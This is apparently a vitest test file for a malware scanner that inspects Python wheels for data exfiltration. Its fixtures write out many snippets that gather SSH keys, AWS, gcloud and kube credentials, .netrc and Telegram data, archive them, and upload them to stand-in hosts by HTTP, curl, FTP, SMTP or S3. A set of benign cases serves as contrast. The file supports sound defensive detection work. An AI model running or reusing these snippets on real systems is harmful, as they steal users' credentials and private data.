import { describe, expect, test } from 'vitest';
import { inspect, python, wheel } from '../../../support/inspect.ts';

/** A function of a wheel that somebody has to call. */
function called(...lines: string[]): ReturnType<typeof wheel> {
  return wheel({
    'pkg/__init__.py': python(
      'import ftplib, glob, io, os, platform, shutil, smtplib, subprocess, tarfile, tempfile, zipfile',
      'import boto3, requests',
      'from pathlib import Path',
      'def run(target=None):',
      ...lines.map((line) => `    ${line}`),
    ),
  });
}

const SEND = "requests.post('https://up.storage-of.invalid/x', files={'f': open(box, 'rb')})";

describe('what is gathered in a place and sent from there is malware', () => {
  test.each([
    [
      'a folder that is packed',
      [
        "shutil.copytree('/Users/' + os.getlogin() + '/.ssh', '/tmp/box/ssh')",
        "box = shutil.make_archive('/tmp/box', 'zip', '/tmp/box')",
        SEND,
      ],
    ],
    [
      'a folder of temporary files into which another is copied',
      [
        'd = tempfile.mkdtemp()',
        "shutil.copytree(os.path.expanduser('~/.ssh'), os.path.join(d, 's'))",
        "box = shutil.make_archive(d, 'zip', d)",
        SEND,
      ],
    ],
    [
      'the archive that a call gives the path of, sent by a program',
      [
        'd = tempfile.mkdtemp()',
        "shutil.copy(os.path.expanduser('~/.aws/credentials'), d)",
        "box = shutil.make_archive(d, 'zip', d)",
        "subprocess.Popen(['curl', '-s', '-F', 'file=@' + box, 'https://up.storage-of.invalid/x'])",
      ],
    ],
    [
      'a walk through a folder of a variable that may not be set',
      [
        "place = os.path.join(os.environ.get('APPDATA', ''), 'Telegram Desktop', 'tdata')",
        'box = io.BytesIO()',
        "with zipfile.ZipFile(box, 'w') as z:",
        '    for folder, _, names in os.walk(place):',
        '        for name in names: z.write(os.path.join(folder, name))',
        "requests.post('https://up.storage-of.invalid/x', files={'f': box})",
      ],
    ],
    [
      'rows of a table in memory',
      [
        'import csv',
        'box = io.StringIO()',
        "csv.writer(box).writerow(['key', open(os.path.expanduser('~/.ssh/id_rsa')).read()])",
        "requests.post('https://up.storage-of.invalid/x', data=box.getvalue())",
      ],
    ],
    [
      'rows of a table on disk',
      [
        'import csv',
        "with open('/tmp/rows.csv', 'w') as f: csv.writer(f).writerows([[open(os.path.expanduser('~/.netrc')).read()]])",
        "requests.post('https://up.storage-of.invalid/x', data=open('/tmp/rows.csv').read())",
      ],
    ],
    [
      'a walk through the folder',
      [
        'd = tempfile.mkdtemp()',
        "shutil.copytree(os.path.expanduser('~/.ssh'), os.path.join(d, 'ssh'))",
        'for root, _, names in os.walk(d):',
        "    for n in names: requests.post('https://up.storage-of.invalid/x', files={'f': open(os.path.join(root, n), 'rb')})",
      ],
    ],
    [
      'an archive that a loop fills from a folder',
      [
        "shutil.copy(os.path.expanduser('~/.netrc'), '/tmp/box/n')",
        "z = zipfile.ZipFile('/tmp/box.zip', 'w')",
        "for d, _, names in os.walk('/tmp/box'):",
        '    for n in names: z.write(os.path.join(d, n), n)',
        'os.system(\'curl -k -F "file=@/tmp/box.zip" https://up.storage-of.invalid/x\')',
      ],
    ],
    ['tar of a shell', ["os.system('tar czf /tmp/box.tgz ~/.ssh ~/.aws')", "box = '/tmp/box.tgz'", SEND]],
    [
      'zip of a list of words',
      [
        "subprocess.run(['zip', '-r', '/tmp/box.zip', os.path.expanduser('~/.ssh')])",
        "subprocess.run(['curl', '-F', 'f=@/tmp/box.zip', 'https://up.storage-of.invalid/x'])",
      ],
    ],
    [
      'PowerShell',
      [
        "subprocess.run(['powershell', '-Command', 'Compress-Archive -Path $env:USERPROFILE\\\\.ssh -DestinationPath C:\\\\Users\\\\Public\\\\box.zip'])",
        "box = 'C:\\\\Users\\\\Public\\\\box.zip'",
        SEND,
      ],
    ],
    [
      'a folder in the working folder',
      [
        "for f in glob.glob(os.path.expanduser('~/.ssh/id_*')): shutil.copy(f, 'out')",
        "shutil.make_archive('out', 'zip', 'out')",
        "os.system('curl -T out.zip https://up.storage-of.invalid/')",
      ],
    ],
    [
      'output that a shell redirects',
      [
        "subprocess.run('env > /tmp/box/env.txt', shell=True)",
        "subprocess.run(['tar', 'czf', '/tmp/box.tgz', '-C', '/tmp', 'box'])",
        "subprocess.run(['curl', '--data-binary', '@/tmp/box.tgz', 'https://up.storage-of.invalid/b'])",
      ],
    ],
    [
      'an archive in memory by its keyword',
      [
        'buf = io.BytesIO()',
        "t = tarfile.open(fileobj=buf, mode='w:gz')",
        "t.add(os.path.expanduser('~/.kube/config'))",
        "requests.post('https://up.storage-of.invalid/x', data=buf.getvalue())",
      ],
    ],
    [
      'a server of files with a password in the code',
      [
        "with zipfile.ZipFile('box.zip', 'w') as z:",
        "    z.write(os.path.expanduser('~/.config/gcloud/credentials.db'))",
        "ftp = ftplib.FTP('ftp.storage-of.invalid', 'user', 'word')",
        "ftp.storbinary('STOR box.zip', open('box.zip', 'rb'))",
      ],
    ],
    [
      'mail with a password in the code',
      [
        "shutil.copy(Path.home() / '.netrc', Path('/var/tmp/box') / 'n')",
        "box = shutil.make_archive('/var/tmp/box', 'gztar', root_dir='/var/tmp/box')",
        "s = smtplib.SMTP('smtp.storage-of.invalid', 587)",
        "s.login('a@storage-of.invalid', 'word')",
        "s.sendmail('a@storage-of.invalid', 'a@storage-of.invalid', open('/var/tmp/box.tar.gz', 'rb').read())",
      ],
    ],
    [
      'a bucket whose key is in the code',
      [
        "subprocess.call('cp -r ~/.aws /tmp/box && tar -czf /tmp/box.tgz /tmp/box', shell=True)",
        "boto3.client('s3', aws_access_key_id='AKIAABCDEFGHIJKLMNOP', aws_secret_access_key='abcdefghijklmnopqrstuvwxyz0123456789ABCD').upload_file('/tmp/box.tgz', 'bucket', 'x')",
      ],
    ],
  ])('%s', async (_how, lines) => {
    const findings = await inspect('exfiltration', called(...lines));

    expect(findings).toContainEqual(expect.objectContaining({ class: 'malware', score: 10, context: 'call' }));
  });
});

describe('what a program packs and sends for its user stays below a refusal', () => {
  test.each([
    [
      'a project of the user',
      ["shutil.copytree(target, '/tmp/box/src')", "box = shutil.make_archive('/tmp/box', 'zip', '/tmp/box')", SEND],
    ],
    [
      'another folder than the one with the key',
      [
        "shutil.copy(os.path.expanduser('~/.ssh/id_rsa.pub'), '/tmp/keys/own.pub')",
        "box = shutil.make_archive('/tmp/report', 'zip', '/var/log/report')",
        SEND,
      ],
    ],
    [
      'a key that is copied and sent nowhere',
      ["os.system('cp ~/.ssh/id_rsa.pub /tmp/key.pub')", "requests.get('https://api.storage-of.invalid/version')"],
    ],
    [
      'a backup to a host that the caller names',
      ["os.system('tar czf /tmp/box.tgz ~/.config/gcloud')", "subprocess.run(['curl', '-T', '/tmp/box.tgz', target])"],
    ],
    [
      'mail with the password of the user',
      [
        "s = smtplib.SMTP(os.environ['MAIL_HOST'])",
        "s.login(os.environ['MAIL_USER'], os.environ['MAIL_PASSWORD'])",
        "s.sendmail('a@b.invalid', 'c@d.invalid', open(os.path.expanduser('~/.gitconfig')).read())",
      ],
    ],
  ])('%s', async (_what, lines) => {
    const findings = await inspect('exfiltration', called(...lines));

    expect(findings.filter(({ score }) => score >= 6)).toEqual([]);
  });
});

test.each([
  ["os.path.join(os.path.expanduser('~'), '.aws/credentials')", [{ class: 'malware', score: 10 }]],
  ["os.path.join(os.path.expanduser('~'), '.example/theme.ini')", []],
])('settings that a parser reads from %s are what that file holds', async (path, expected) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import configparser, os, requests',
      'def run():',
      '    settings = configparser.RawConfigParser()',
      `    settings.read(${path})`,
      "    rows = [{'k': settings.get(name, 'key')} for name in settings.sections()]",
      "    requests.post('https://log.tools.invalid/k', json=rows)",
    ),
  });

  const findings = await inspect('exfiltration', file);

  expect(findings.filter(({ score }) => score > 1)).toMatchObject(expected);
});
